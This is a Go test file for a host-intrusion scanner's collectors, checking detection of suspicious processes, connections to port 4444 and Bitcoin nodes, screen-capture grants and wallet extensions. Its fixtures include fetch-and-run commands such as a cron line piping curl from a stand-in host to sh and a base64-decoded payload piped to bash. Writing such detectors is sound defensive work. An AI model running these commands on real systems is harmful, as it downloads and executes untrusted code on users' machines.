package collectors

import (
	"context"
	"strings"
	"testing"

	"github.com/driftsec/hostsentry/internal/detector"
	"github.com/driftsec/hostsentry/pkg/types"
)

func TestRegistryCoversAllKeys(t *testing.T) {
	r := NewRegistry()

	keys := append(append([]string{}, CoreKeys...), AdaptiveKeys...)
	detectors, err := r.Build(detector.Env{}, keys)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	if len(detectors) != len(keys) {
		t.Errorf("built %d detectors, want %d", len(detectors), len(keys))
	}
	for i, d := range detectors {
		if d.Key() != keys[i] {
			t.Errorf("detector %d key = %q, want %q", i, d.Key(), keys[i])
		}
	}
}

func TestInspectProcessTable(t *testing.T) {
	table := strings.Join([]string{
		"  412 /usr/sbin/sshd            /usr/sbin/sshd -D",
		" 9001 /tmp/updater              /tmp/updater --silent",
		" 9002 /Users/dev/.hidden/agent  /Users/dev/.hidden/agent",
		"  310 /usr/bin/top              top",
	}, "\n")

	d := &processDetector{env: detector.Env{Signatures: detector.NewSignatureCache()}}
	findings := d.inspectProcessTable(context.Background(), table)

	if len(findings) != 2 {
		t.Fatalf("got %d findings, want 2: %+v", len(findings), findings)
	}
	for _, f := range findings {
		if f.Risk != types.RiskHigh {
			t.Errorf("finding %q risk = %v, want high", f.Description, f.Risk)
		}
		if f.Type != "suspicious_process" {
			t.Errorf("finding type = %q, want suspicious_process", f.Type)
		}
	}
	if findings[0].Fields["name"] != "updater" {
		t.Errorf("name field = %q, want updater", findings[0].Fields["name"])
	}
}

func TestInspectSocketTable(t *testing.T) {
	table := strings.Join([]string{
		"COMMAND   PID USER   FD   TYPE DEVICE SIZE/OFF NODE NAME",
		"sshd      412 root    3u  IPv4 0x12ab      0t0  TCP *:22 (LISTEN)",
		"updater  9001 dev     7u  IPv4 0x34cd      0t0  TCP 10.0.0.5:52344->203.0.113.9:4444 (ESTABLISHED)",
		"firefox   550 dev    40u  IPv4 0x56ef      0t0  TCP 10.0.0.5:52345->151.101.1.1:443 (ESTABLISHED)",
	}, "\n")

	findings := inspectSocketTable(table)

	var listeners, suspicious int
	for _, f := range findings {
		switch f.Type {
		case "listener":
			listeners++
		case "suspicious_connection":
			suspicious++
			if f.Risk != types.RiskHigh {
				t.Errorf("suspicious connection risk = %v, want high", f.Risk)
			}
			if f.Fields["process"] != "updater" {
				t.Errorf("process field = %q, want updater", f.Fields["process"])
			}
		}
	}
	if listeners != 1 {
		t.Errorf("listeners = %d, want 1", listeners)
	}
	if suspicious != 1 {
		t.Errorf("suspicious connections = %d, want 1", suspicious)
	}
}

func TestSuspiciousContentMarker(t *testing.T) {
	tests := []struct {
		name    string
		content string
		wantHit bool
	}{
		{"curl piped to shell", "*/5 * * * * curl -s http://x.test/a | sh", true},
		{"tmp payload", "<string>/tmp/.agent</string>", true},
		{"base64 payload", "echo aGk= | base64 -d | bash", true},
		{"benign entry", "0 3 * * * /usr/local/bin/backup --quiet", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			marker := suspiciousContentMarker(tt.content)
			if (marker != "") != tt.wantHit {
				t.Errorf("suspiciousContentMarker(%q) = %q, wantHit=%v", tt.content, marker, tt.wantHit)
			}
		})
	}
}

func TestInspectCryptoConnections(t *testing.T) {
	table := strings.Join([]string{
		"miner    7100 dev    12u  IPv4 0x90ab      0t0  TCP 10.0.0.5:61000->198.51.100.2:8333 (ESTABLISHED)",
		"chrome    550 dev    41u  IPv4 0x90ac      0t0  TCP 10.0.0.5:61001->142.250.1.1:443 (ESTABLISHED)",
	}, "\n")

	findings := inspectCryptoConnections(table)

	if len(findings) != 1 {
		t.Fatalf("got %d findings, want 1", len(findings))
	}
	if findings[0].Fields["service"] != "Bitcoin p2p" {
		t.Errorf("service = %q, want Bitcoin p2p", findings[0].Fields["service"])
	}
}

func TestInspectPermissionGrants(t *testing.T) {
	out := "com.example.helper|kTCCServiceScreenCapture\ncom.apple.Terminal|kTCCServiceDeveloperTool\n"

	findings := inspectPermissionGrants(out)

	if len(findings) != 1 {
		t.Fatalf("got %d findings, want 1", len(findings))
	}
	if findings[0].Risk != types.RiskMedium {
		t.Errorf("risk = %v, want medium", findings[0].Risk)
	}
	if findings[0].Fields["client"] != "com.example.helper" {
		t.Errorf("client = %q", findings[0].Fields["client"])
	}
}

func TestClassifyExtension(t *testing.T) {
	wallet := classifyExtension("abc123", "MetaMask")
	if wallet.Risk != types.RiskMedium {
		t.Errorf("wallet extension risk = %v, want medium", wallet.Risk)
	}

	plain := classifyExtension("def456", "Ad Blocker")
	if plain.Risk != types.RiskLow {
		t.Errorf("ordinary extension risk = %v, want low", plain.Risk)
	}

	unnamed := classifyExtension("ghi789", "")
	if unnamed.Fields["extension"] != "ghi789" {
		t.Errorf("unnamed extension should fall back to its id")
	}
}
